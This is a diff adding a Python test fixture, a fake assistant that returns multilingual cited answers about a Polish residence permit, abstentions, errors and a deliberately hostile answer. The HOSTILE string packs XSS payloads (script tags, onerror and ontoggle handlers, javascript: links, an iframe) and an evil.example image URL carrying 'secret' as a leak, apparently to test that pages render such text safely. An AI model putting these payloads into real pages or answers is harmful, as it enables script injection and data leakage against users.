@@ -1,0 +1,197 @@
+"""A small real assistant for the pages' tests: it answers from five sections, some of them hostile."""
+
+from __future__ import annotations
+
+import time
+from datetime import date
+
+from assistant.errors import QuestionError
+from assistant.types import (
+    Abstention,
+    Answer,
+    Block,
+    Citation,
+    Confidence,
+    Conversation,
+    Document,
+    Filters,
+    Hit,
+    Kind,
+    Language,
+    Passage,
+    Reason,
+    Reply,
+    Sentence,
+    Source,
+)
+
+TEXTS: dict[Language, tuple[str, str, str, str]] = {
+    "en": (
+        "Residence permit",
+        "Exchange in Poland",
+        "Apply for the permit while your stay is legal.\n\n"
+        "1. Fill in the form online.\n2. Book a visit.\n\n"
+        "| Document | Original |\n|---|---|\n| Passport | yes |\n| Insurance | copy |\n\n"
+        "**The decision takes up to 60 days.** See the office's page for fees.",
+        "Apply for the permit while your stay is legal.",
+    ),
+    "ru": (
+        "Вид на жительство",
+        "Обмен в Польше",
+        "Подайте заявление, пока ваше пребывание законно.\n\n"
+        "1. Заполните анкету на сайте.\n2. Запишитесь на приём.\n\n"
+        "| Документ | Оригинал |\n|---|---|\n| Паспорт | да |\n| Страховка | копия |\n\n"
+        "**Решение принимают в срок до 60 дней.** Размер сбора указан на странице ведомства.",
+        "Подайте заявление, пока ваше пребывание законно.",
+    ),
+    "kk": (
+        "Тұруға рұқсат",
+        "Польшадағы алмасу",
+        "Өтінішті елде заңды жүрген кезіңізде беріңіз.\n\n"
+        "1. Сауалнаманы сайтта толтырыңыз.\n2. Қабылдауға жазылыңыз.\n\n"
+        "| Құжат | Түпнұсқа |\n|---|---|\n| Паспорт | иә |\n| Сақтандыру | көшірме |\n\n"
+        "**Шешім 60 күнге дейін қабылданады.** Алым мөлшері мекеменің бетінде көрсетілген.",
+        "Өтінішті елде заңды жүрген кезіңізде беріңіз.",
+    ),
+}
+LAST = {
+    "en": "**The decision takes up to 60 days.**",
+    "ru": "**Решение принимают в срок до 60 дней.**",
+    "kk": "**Шешім 60 күнге дейін қабылданады.**",
+}
+ROW = {"en": "Passport | yes", "ru": "Паспорт | да", "kk": "Паспорт | иә"}
+SAID = {"en": "The guide says", "ru": "В путеводителе сказано", "kk": "Нұсқаулықта былай делінген"}
+NO_ANSWER = {
+    "en": "I found sections on Poland, but none on Japan.",
+    "ru": "Нашлись разделы о Польше, но ни одного о Японии.",
+    "kk": "Польша туралы бөлімдер табылды, ал Жапония туралы бөлім жоқ.",
+}
+
+HOSTILE = (
+    "Hostile words stay words. <script>alert('document')</script> "
+    "<img src=x onerror=alert(1)> ![leak](https://evil.example/leak.png?q=secret) "
+    "[click](javascript:alert(2)) [visit](https://evil.example/phish) <https://evil.example/auto> "
+    "https://evil.example/bare www.evil.example <iframe src='https://evil.example/frame'></iframe> "
+    "<a href='https://evil.example/a' style='background:url(https://evil.example/css)'>a</a> "
+    "$$\\href{javascript:alert(3)}{x}$$\n\n"
+    "[1]: https://evil.example/definition\n\n```mermaid\ngraph TD; A-->B\n```\n\n"
+    "<details open ontoggle=alert(4)><p>x</p></details>"
+)
+
+
+def passage(language: Language = "en", text: str | None = None, heading: str | None = None) -> Passage:
+    """Return the permit section in a language, or a section with another text."""
+    own_heading, title, body, _ = TEXTS[language]
+    text = body if text is None else text
+    return Passage(
+        document="host_guides/poland",
+        anchor="permit",
+        language=language,
+        heading=own_heading if heading is None else heading,
+        context=(title,),
+        start=0,
+        text=text,
+        sentences=(Sentence(0, len(text), "prose", 0),),
+        blocks=(Block(0, len(text), "paragraph"),),
+    )
+
+
+def source(language: Language = "en") -> Source:
+    """Return a reviewed official source."""
+    names = {
+        "en": "Office for Foreigners",
+        "ru": "Управление по делам иностранцев",
+        "kk": "Шетелдіктер істері басқармасы",
+    }
+    return Source(
+        institution=names[language],
+        country="PL",
+        title={"en": "Temporary stay", "ru": "Временное пребывание", "kk": "Уақытша болу"}[language],
+        url="https://www.gov.pl/web/udsc-en/temporary-residence",
+        dated="2026-03",
+        reviewed_on=date(2026, 9, 30),
+        review_by=date(2026, 11, 1),
+        confidence=Confidence.OFFICIAL,
+    )
+
+
+def citation(
+    mark: int, quote: str, of: Passage, kind: Kind = Kind.HOST_GUIDE, stale: bool = False
+) -> Citation:
+    """Return a citation of a passage with its reviewed source."""
+    return Citation(mark=mark, quote=quote, passage=of, kind=kind, source=source(of.language), stale=stale)
+
+
+def answer(language: Language = "en", *, original: Language | None = None, stale: bool = False) -> Answer:
+    """Return an answer with a sentence, a table row and a sentence of another section."""
+    own = passage(original or language)
+    first, last, row = TEXTS[own.language][3], LAST[own.language], ROW[own.language]
+    text = f"{SAID[language]}: «{first}» [1]\n\n- {last} [2]\n\n|  |  |\n|---|---|\n| {row} [3] |"
+    return Answer(
+        language=language,
+        text=text,
+        composer="extractive",
+        support=0.9,
+        citations=(
+            citation(1, first, own, stale=stale),
+            citation(2, last, own, stale=stale),
+            citation(3, row, own, stale=stale),
+        ),
+    )
+
+
+def abstention(language: Language = "en") -> Abstention:
+    """Return an honest refusal with a nearest section."""
+    nearest = (Hit(passage=passage(language), score=0.4, signals={}),)
+    return Abstention(
+        language=language,
+        text=NO_ANSWER[language],
+        reason=Reason.OTHER_COUNTRY,
+        support=0.1,
+        nearest=nearest,
+    )
+
+
+def hostile() -> Answer:
+    """Return an answer that repeats a document full of attacks."""
+    section = passage("en", HOSTILE, "Hostile <img src=https://evil.example/h.png onerror=alert(5)>")
+    return Answer(
+        language="en",
+        text=f"«{HOSTILE}» [1]",
+        composer="extractive",
+        support=0.5,
+        citations=(citation(1, "Hostile words stay words.", section, Kind.OTHER),),
+    )
+
+
+NO_TURNS, NO_FILTERS = Conversation(), Filters()
+
+
+class FakeAssistant:
+    """Answers by words in the question: Japan abstains, hostile attacks, broken fails, slow waits."""
+
+    def ask(
+        self,
+        question: str,
+        *,
+        conversation: Conversation = NO_TURNS,
+        page_language: Language | None = None,
+        filters: Filters = NO_FILTERS,
+    ) -> Reply:
+        """Return a reply in the language of the page."""
+        language = page_language or "en"
+        if "Japan" in question or "Япони" in question or "Жапони" in question:
+            return abstention(language)
+        if "hostile" in question:
+            return hostile()
+        if "slow" in question:
+            time.sleep(2)
+        if "broken" in question:
+            raise RuntimeError("the engine broke")
+        if "refuse" in question:
+            raise QuestionError(f"{question!r} cannot be taken; ask something else")
+        return answer(language, original="ru" if "original" in question else None, stale="stale" in question)
+
+    def document(self, id: str, language: Language) -> Document | None:
+        """Return nothing: no page reads whole documents yet."""
+        return None
